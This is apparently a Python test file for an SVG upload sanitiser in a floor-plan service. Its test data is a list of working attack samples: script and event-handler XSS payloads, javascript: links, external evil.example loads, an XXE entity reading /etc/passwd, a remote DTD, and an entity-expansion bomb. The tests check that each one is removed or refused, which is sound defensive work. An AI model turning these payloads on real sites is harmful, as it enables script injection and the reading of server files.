"""An uploaded SVG is made harmless: known attacks leave nothing, and whatever comes out passes through unchanged."""

import contextlib
import re
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.catalogue.floorplans.svg import MOST_BYTES, MOST_ELEMENTS, DrawingError, harmless

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50"'
SAFE_ELEMENTS = {
    "svg", "g", "rect", "path", "polygon", "polyline", "circle", "ellipse", "line", "text", "tspan", "title", "desc",
}  # fmt: skip

ATTACKS = [
    f"{HEAD}><script>alert(1)</script></svg>",
    f"{HEAD} onload='alert(1)'></svg>",
    f"{HEAD}><rect onclick='alert(1)' width='1' height='1'/></svg>",
    f"{HEAD}><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    f"{HEAD}><a href='javascript:alert(1)'><rect width='9' height='9'/></a></svg>",
    f"{HEAD}><use href='https://evil.example/x.svg#y'/></svg>",
    f"{HEAD}><image href='https://evil.example/track.png'/></svg>",
    f"{HEAD}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject></svg>",
    f"{HEAD}><style>@import url(https://evil.example/x.css)</style></svg>",
    f"{HEAD}><rect style='fill:url(https://evil.example/x)' width='1' height='1'/></svg>",
    f"{HEAD}><rect fill='url(javascript:alert(1))' width='1' height='1'/></svg>",
    f"{HEAD}><rect style='background:expression(alert(1));fill:red' width='1' height='1'/></svg>",
    f"{HEAD}><animate attributeName='href' to='javascript:alert(1)'/><set attributeName='onload' to='x'/></svg>",
    f"{HEAD}><handler xmlns='http://www.w3.org/2001/xml-events'>x</handler></svg>",
    f"{HEAD}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></svg>",
    f"{HEAD}><h:rect xmlns:h='http://www.w3.org/1999/xhtml' onclick='x'/></svg>",
    f"{HEAD}><text><![CDATA[</text><script>alert(1)</script>]]></text></svg>",
    f"{HEAD}><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></svg>",
    f"{HEAD}><filter><feImage href='https://evil.example'/></filter><linearGradient/><pattern/><mask/></svg>",
    f"{HEAD}><?xml-stylesheet href='https://evil.example/x.css'?><!-- <script/> --></svg>",
    f"{HEAD}><rect id='x\" onload=\"alert(1)' width='1' height='1'/></svg>",
]
BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
REFUSED = {
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{HEAD}><text>&x;</text></svg>': "drawing_with_entities",
    f'<!DOCTYPE svg [<!ENTITY a0 "ha">{BOMB}]>{HEAD}><text>&a8;</text></svg>': "drawing_with_entities",
    f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>{HEAD}/></svg>': "drawing_with_entities",
    "not xml at all": "drawing_not_xml",
    "": "drawing_not_xml",
    "\x00": "drawing_not_xml",
    "<html><body/></html>": "drawing_not_svg",
    '<svg xmlns="http://www.w3.org/2000/svg"/>': "drawing_without_size",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan 5"/>': "drawing_without_size",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 5"/>': "drawing_without_size",
    f"{HEAD}>{'<g>' * 100}{'</g>' * 100}</svg>": "drawing_too_deep",
    f"{HEAD}>{'<g/>' * (MOST_ELEMENTS + 1)}</svg>": "drawing_too_many",
    f"{HEAD}><desc>{'x' * MOST_BYTES}</desc></svg>": "drawing_too_large",
}


def expect_safe(svg: str) -> None:
    """Raise unless the drawing is made of what is known to be safe alone."""
    for element in fromstring(svg).iter():
        assert element.tag.removeprefix("{http://www.w3.org/2000/svg}") in SAFE_ELEMENTS
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert "href" not in name
            assert name != "style"
            if name not in ("id", "data-space"):
                assert not re.search(r"url|javascript|expression|:", value, re.IGNORECASE), (name, value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_behind(attack: str) -> None:
    made = harmless(attack, ())
    expect_safe(made.svg)
    assert "<script" not in made.svg
    assert "evil.example" not in made.svg


@pytest.mark.parametrize(("text", "key"), REFUSED.items(), ids=[f"{n}-{key}" for n, key in enumerate(REFUSED.values())])
def test_what_cannot_be_used_is_refused_with_its_reason(text: str, key: str) -> None:
    with pytest.raises(DrawingError) as refused:
        harmless(text, ())
    assert refused.value.key == key


def test_a_drawing_keeps_its_shapes_text_and_looks() -> None:
    made = harmless(
        f'{HEAD}><g transform="translate(1,2) scale(2)" style="fill:#fff;stroke:rgb(1, 2, 3)">'
        '<path d="M0 0L10-5.5.5z"/><text x="3" text-anchor="middle">大<tspan>厅</tspan>里</text></g></svg>',
        (),
    )
    assert '<path d="M0 0L10-5.5.5z"' in made.svg
    assert 'transform="translate(1,2) scale(2)"' in made.svg
    assert 'fill="#fff"' in made.svg
    assert 'stroke="rgb(1, 2, 3)"' in made.svg
    assert ">大<tspan>厅</tspan>里<" in made.svg
    assert made.view_box == (0, 0, 100, 50)


def test_a_shape_named_like_a_space_is_marked_once() -> None:
    label = "http://www.inkscape.org/namespaces/inkscape"
    made = harmless(
        f'{HEAD} xmlns:i="{label}"><rect id="hall"/><rect id="hall"/><g i:label="tea"/><g id="nothing"/></svg>',
        ("hall", "tea"),
    )
    assert made.spaces == ("hall", "tea")
    assert made.svg.count("data-space=") == 2


def test_the_size_is_taken_from_width_and_height_where_there_is_no_view_box() -> None:
    assert harmless('<svg xmlns="http://www.w3.org/2000/svg" width="210mm" height="99.5px"/>', ()).view_box == (
        0, 0, 210, 99.5,
    )  # fmt: skip


def test_a_long_drawing_that_does_not_match_is_left_behind_at_once() -> None:
    made = harmless(f'{HEAD}><path d="{"1" * 100_000}x"/><polygon points="{"1 " * 100_000}!"/></svg>', ())
    assert " d=" not in made.svg
    assert "points" not in made.svg


NAMES = st.sampled_from(
    [*sorted(SAFE_ELEMENTS - {"svg"}), "script", "style", "image", "use", "foreignObject", "a", "set"]
)
ATTRIBUTES = st.dictionaries(
    st.sampled_from(["id", "x", "fill", "style", "d", "onclick", "href", "transform", "points", "data-space", "class"]),
    st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=20)
    | st.sampled_from(["url(#a)", "javascript:1", "red", "M0 0h1", "hall", "rotate(3)", "fill:red;stroke:url(x)"]),
    max_size=4,
)


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def leaf(name: str, said: dict[str, str]) -> str:
    return f"<{name} " + " ".join(f'{key}="{escaped(value)}"' for key, value in said.items()) + "/>"


def branch(name: str, parts: list[str]) -> str:
    return f"<{name}>{''.join(parts)}</{name}>"


ELEMENTS = st.recursive(
    st.builds(leaf, NAMES, ATTRIBUTES),
    lambda inner: st.builds(branch, NAMES, st.lists(inner, max_size=3)),
    max_leaves=12,
)


@given(st.lists(ELEMENTS, max_size=5))
def test_whatever_comes_in_only_what_is_safe_comes_out_and_stays_as_it_is(parts: list[str]) -> None:
    try:
        made = harmless(f"{HEAD}>{''.join(parts)}</svg>", ("hall",))
    except DrawingError as error:
        assert error.key == "drawing_not_xml"  # noncharacters that XML does not know
        return
    expect_safe(made.svg)
    assert harmless(made.svg, ("hall",)).svg == made.svg


@given(st.text(max_size=200))
def test_any_text_is_a_drawing_or_refused(text: str) -> None:
    with contextlib.suppress(DrawingError):
        expect_safe(harmless(text, ()).svg)
